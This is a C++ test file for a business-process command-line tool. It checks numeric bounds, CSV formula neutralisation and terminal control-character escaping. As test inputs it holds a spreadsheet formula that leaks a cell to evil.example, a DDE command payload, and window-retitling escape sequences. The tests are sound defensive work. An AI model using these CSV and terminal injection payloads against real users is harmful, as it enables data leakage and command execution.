// Values and what is printed (issue 18): numbers out of range and outside a
// field's min/max are refused with the field's name; every CSV is written by
// one writer (CRLF, formula-like cells neutralised); text shown on a terminal
// has its control characters escaped while --json stays exact.
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "tests/e2e/harness.h"

using namespace reglament;
using namespace reglament::e2e;

namespace {

// Step "2" runs an external program (tests give it the path of a script):
// the way text with control characters reaches variables and the outbox,
// since the command line refuses them.
std::string process_text(const std::string& program) {
  return R"(process: values
title: Значения
owner: deputy-director
variables:
  client: {type: text, required: true, title: Клиент}
  amount: {type: number, min: 0, max: 100}
  delta: {type: number}
steps:
  - id: "1"
    title: Принять заказ
    actor: manager
    form: order
    next: "2"
  - id: "2"
    title: Передать заказ
    actor: manager
    do: exec
    with: {run: [/bin/sh, ")" + program + R"("], outputs: [note, total]}
    retry: 0
    next: end
)";
}

const char* kForm = R"(form: order
title: Заказ
fields:
  - name: volume
    type: number
    required: true
    min: 1
    max: 1000000
)";

// What the program of step "2" prints by default: a note and a message whose
// text would retitle the window, clear the screen and start a C1 CSI.
const char* kHostileOutput =
    R"({"note": "ACME\u001b]0;pwned\u0007\u001b[2J\u009b1m", )"
    R"("messages": [{"to": "sales-center", "text": "Заказ: ACME\u001b]0;pwned\u0007"}]})";

// A database with the `values` process deployed under the bundled org
// (identity: asserted, so --now stands); step "2" prints `output`.
struct ValuesEnv {
  Env env{false};
  explicit ValuesEnv(const std::string& output = kHostileOutput) {
    namespace fs = std::filesystem;
    const fs::path bundle = env.dir() / "bundle";
    fs::create_directories(bundle / "forms");
    fs::copy_file(REGLAMENT_SOURCE_DIR "/processes/org.yaml", bundle / "org.yaml");
    const fs::path script = env.dir() / "step2.sh";
    std::ofstream(script) << "cat >/dev/null\ncat <<'EOF'\n" << output << "\nEOF\n";
    std::ofstream(bundle / "values.yaml") << process_text(script.string());
    std::ofstream(bundle / "forms" / "order.yaml") << kForm;
    Run r = env.rg({"deploy", bundle.string()});
    REQUIRE_MESSAGE(r.code == 0, r.err);
  }
};

// Every line of `text` ends in CRLF, and there is at least one.
bool all_crlf(const std::string& text) {
  if (text.empty() || text.back() != '\n') return false;
  for (size_t i = text.find('\n'); i != std::string::npos; i = text.find('\n', i + 1)) {
    if (i == 0 || text[i - 1] != '\r') return false;
  }
  return true;
}

const std::string kEsc = "\x1b";

}  // namespace

// ---- Numbers ----------------------------------------------------------------------

TEST_CASE("a number out of range given with --set is refused naming the field and nothing starts") {
  ValuesEnv v;
  Run r = v.env.rg({"start", "values", "--set", "client=ООО Ромашка", "--set", "delta=99999999999999999999999999",
                    "--as", "ivanova"});
  CHECK(r.code == 2);
  CHECK(contains(r.err, "field \"delta\" must be a number from -9007199254740991 to 9007199254740991"));
  CHECK(r.out.empty());
  CHECK(v.env.json("sidorova", {"instances"}).as_array().empty());
  // 16 significant digits would be rounded: refused as well.
  Run decimal = v.env.rg({"start", "values", "--set", "client=x", "--set", "delta=0.1000000000000001", "--as", "ivanova"});
  CHECK(decimal.code == 2);
  CHECK(contains(decimal.err, "significant digits"));
}

TEST_CASE("variables and form fields outside min and max are refused with the bound; the inbox form shows them") {
  ValuesEnv v;
  Run over = v.env.rg({"start", "values", "--set", "client=x", "--set", "amount=101", "--as", "ivanova"});
  CHECK(over.code == 2);
  CHECK(contains(over.err, "field \"amount\" must be at most 100, got 101"));
  const std::string id = start(v.env, "ivanova", "values", {"client=x", "amount=100"});
  Json task = inbox_entry(v.env, "ivanova", id, "1");
  REQUIRE(task.is_object());
  const Json& field = task.get("form").as_array().at(0);
  CHECK(field.str("name") == "volume");
  CHECK(field.get("min") == Json(int64_t{1}));
  CHECK(field.get("max") == Json(int64_t{1000000}));
  Run low = v.env.rg({"complete", task.str("task"), "--set", "volume=0", "--as", "ivanova"});
  CHECK(low.code == 2);
  CHECK(contains(low.err, "field \"volume\" must be at least 1, got 0"));
  // Nothing changed: the task is still open, and a value within the bounds completes it.
  CHECK(inbox_entry(v.env, "ivanova", id, "1").is_object());
  complete(v.env, "ivanova", id, "1", {"volume=1000000"});
}

// ---- CSV -------------------------------------------------------------------------

TEST_CASE("history, timeline and report write CSV with CRLF line endings everywhere") {
  ValuesEnv v;
  const std::string id = start(v.env, "ivanova", "values", {"client=x"});
  Run history = v.env.rg({"history", id, "--format", "csv"});
  REQUIRE(history.code == 0);
  CHECK(all_crlf(history.out));
  Run variables = v.env.rg({"history", id, "--variables", "--format", "csv"});
  REQUIRE(variables.code == 0);
  CHECK(all_crlf(variables.out));
  Run timeline = v.env.rg({"timeline", "--format", "csv"});
  REQUIRE(timeline.code == 0);
  CHECK(all_crlf(timeline.out));
  // The report needs the bundled indicators.
  Env bundled;
  Run report = bundled.rg({"report", "--from", "2026-11-23", "--to", "2026-11-30", "--format", "csv"});
  REQUIRE_MESSAGE(report.code == 0, report.err);
  CHECK(report.out.rfind("code,title,unit,period,from,to,group,value,count,of,pending\r\n", 0) == 0);
  CHECK(all_crlf(report.out));
}

TEST_CASE("a client name that is a spreadsheet formula is written to CSV as text; whole numbers stay numbers") {
  ValuesEnv v;
  const std::string id = start(v.env, "ivanova", "values",
                               {"client==HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "delta=-5"});
  Run csv = v.env.rg({"history", id, "--variables", "--format", "csv"});
  REQUIRE(csv.code == 0);
  // variable,seq,at,actor,step,type,value,value_json
  CHECK(contains(csv.out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\","));
  CHECK_FALSE(contains(csv.out, ",=HYPERLINK"));
  CHECK_FALSE(contains(csv.out, ",\"=HYPERLINK"));
  CHECK(contains(csv.out, ",-5,-5\r\n"));
  // Every cell starting a formula is neutralised, in any column.
  for (const std::string& name : {"+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx"}) {
    const std::string other = start(v.env, "ivanova", "values", {"client=" + name});
    Run out = v.env.rg({"history", other, "--variables", "--format", "csv"});
    REQUIRE(out.code == 0);
    INFO(out.out);
    CHECK(contains(out.out, "'" + name));
  }
  // The timeline's actor column: a login is a cell like any other.
  Run timeline = v.env.rg({"timeline", "--format", "csv"});
  REQUIRE(timeline.code == 0);
  CHECK(all_crlf(timeline.out));
}

// ---- Terminal escaping -----------------------------------------------------------

TEST_CASE("control characters from a handler are shown escaped in tables and text but exact in JSON") {
  ValuesEnv v;
  const std::string id = start(v.env, "ivanova", "values", {"client=ООО Ромашка"});
  complete(v.env, "ivanova", id, "1", {"volume=5"});
  v.env.rg({"tick"});
  const std::string note = "ACME\x1b]0;pwned\x07\x1b[2J\xc2\x9b" "1m";
  // --json is the exact value.
  Json shown = v.env.json("sidorova", {"show", id});
  REQUIRE_MESSAGE(shown.get("variables").has("note"), shown.dump());
  CHECK(shown.get("variables").str("note") == note);
  // Text output: show's variables.
  Run show = v.env.rg({"show", id});
  REQUIRE(show.code == 0);
  CHECK_FALSE(contains(show.out, kEsc));
  CHECK_FALSE(contains(show.out, "\x07"));
  CHECK_FALSE(contains(show.out, "\xc2\x9b"));
  CHECK(contains(show.out, "ACME\\x1b]0;pwned\\x07\\x1b[2J\\u009b1m"));
  // Tables: history of the variables, the timeline, the outbox.
  Run history = v.env.rg({"history", id, "--variables"});
  REQUIRE(history.code == 0);
  CHECK_FALSE(contains(history.out, kEsc));
  CHECK(contains(history.out, "ACME\\x1b]0;pwned\\x07\\x1b[2J"));
  Run timeline = v.env.rg({"timeline"});
  REQUIRE(timeline.code == 0);
  CHECK_FALSE(contains(timeline.out, kEsc));
  Json outbox = v.env.json("sidorova", {"outbox"});
  REQUIRE_FALSE(outbox.as_array().empty());
  CHECK(outbox.as_array().back().str("text") == "Заказ: ACME\x1b]0;pwned\x07");
  Run table = v.env.rg({"outbox"});
  REQUIRE(table.code == 0);
  CHECK_FALSE(contains(table.out, kEsc));
  CHECK(contains(table.out, "Заказ: ACME\\x1b]0;pwned\\x07"));
  // CSV is data: the value is there exactly.
  Run csv = v.env.rg({"history", id, "--variables", "--format", "csv"});
  REQUIRE(csv.code == 0);
  CHECK(contains(csv.out, note));
}

TEST_CASE("a handler's number out of range fails the step instead of being stored rounded") {
  ValuesEnv v(R"({"note": "ok", "total": 99999999999999999999999999})");
  const std::string id = start(v.env, "ivanova", "values", {"client=x"});
  complete(v.env, "ivanova", id, "1", {"volume=5"});
  v.env.rg({"tick"});
  Json shown = v.env.json("sidorova", {"show", id});
  CHECK_FALSE(shown.get("variables").has("total"));
  CHECK_FALSE(shown.get("variables").has("note"));
  Json incidents = v.env.json("sidorova", {"incidents"});
  REQUIRE(incidents.as_array().size() == 1);
  CHECK(contains(incidents.as_array().at(0).dump(), "output \\\"total\\\" is a number out of range"));
}
